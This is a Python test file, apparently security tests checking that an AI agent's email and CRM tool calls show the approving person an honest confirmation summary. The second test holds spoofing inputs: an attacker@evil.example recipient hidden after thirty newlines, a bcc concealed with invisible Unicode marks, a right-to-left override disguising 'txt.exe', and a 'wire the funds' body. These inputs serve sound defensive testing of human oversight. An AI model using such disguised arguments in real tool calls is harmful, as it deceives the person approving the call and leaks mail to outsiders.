"""Findings 7 and 8: what a confirmation shows the person. Lookups go only through tools the agent
may call itself, and what the agent wrote cannot hide a recipient or reorder the text."""

from __future__ import annotations

import unicodedata

import anyio
import pytest

from support.security import SERVER_KEY, TRANSPORTS, attack_server, body

AUTH = {"Authorization": f"Bearer {SERVER_KEY}"}
BIDI = "\u202e"


def seed_ids(sandbox) -> dict[str, dict]:
    """A lead, an email and a campaign, read straight from the sandbox (not through the agent)."""
    lead = sandbox.admin.post("/api/v2/leads/list", json={"limit": 1}, headers=AUTH).json()["items"][0]
    email = sandbox.admin.get("/api/v2/emails", params={"limit": 1}, headers=AUTH).json()["items"][0]
    campaign = sandbox.admin.get("/api/v2/campaigns", params={"limit": 1}, headers=AUTH).json()["items"][0]
    sandbox.admin.delete("/_sandbox/requests")
    return {"lead": lead, "email": email, "campaign": campaign}


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_summaries_do_not_read_through_hidden_tools(transport: str, sandbox, tmp_path) -> None:
    seed = seed_ids(sandbox)
    calls = [
        ("delete_lead", {"id": seed["lead"]["id"]}),
        (
            "reply_to_email",
            {"eaccount": "me@ours.test", "reply_to_uuid": seed["email"]["id"], "subject": "Re", "body": {"text": "Hi"}},
        ),
        ("delete_campaign", {"id": seed["campaign"]["id"]}),
    ]

    async def run() -> tuple[list[str], list, list]:
        tools = ",".join(name for name, _ in calls)
        async with attack_server(transport, sandbox, tmp_path, "--confirm", "token", "--tools", tools) as attack:
            summaries = [body(await attack.call(name, arguments))["summary"] for name, arguments in calls]
            return summaries, attack.upstream(), attack.audit()

    summaries, upstream, audit = anyio.run(run)
    lead, email, campaign = summaries
    assert seed["lead"]["id"] in lead and seed["lead"]["email"] not in lead
    assert seed["email"]["id"] in email and seed["email"]["from_address_email"] not in email
    assert seed["campaign"]["id"] in campaign and seed["campaign"]["name"] not in campaign and "leads" not in campaign
    assert upstream == []
    assert [line["decision"] for line in audit] == ["confirmation_required"] * 3


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_forward_summary_cannot_hide_a_recipient_or_reorder_text(transport: str, sandbox, tmp_path) -> None:
    seed = seed_ids(sandbox)
    spoof = {
        "eaccount": "maya@ours.test",
        "reply_to_uuid": seed["email"]["id"],
        "to_address_email_list": "boss@ours.test" + "\n" * 30 + ",attacker@evil.example",
        "bcc_address_email_list": "\u2066hidden@evil.example\u2069",
        "subject": f"Quarterly {BIDI}txt.exe",
        "body": {"html": "<p>Please <b>wire</b> the\r\nfunds today</p>" + "x" * 500},
    }

    async def run() -> tuple[str, list, list]:
        async with attack_server(transport, sandbox, tmp_path, "--confirm", "token") as attack:
            summary = body(await attack.call("forward_email", spoof))["summary"]
            return summary, attack.upstream(writes_only=True), attack.audit()

    summary, writes, audit = anyio.run(run)
    assert "to 2 recipients (boss@ours.test, attacker@evil.example)" in summary
    assert "bcc 1 recipient (hidden@evil.example)" in summary
    assert "subject 'Quarterly txt.exe'" in summary
    assert "body starting 'Please wire the funds today" in summary
    assert not any(unicodedata.category(ch) in ("Cc", "Cf") for ch in summary)
    assert writes == []
    assert [(line["tool"], line["decision"]) for line in audit] == [("forward_email", "confirmation_required")]
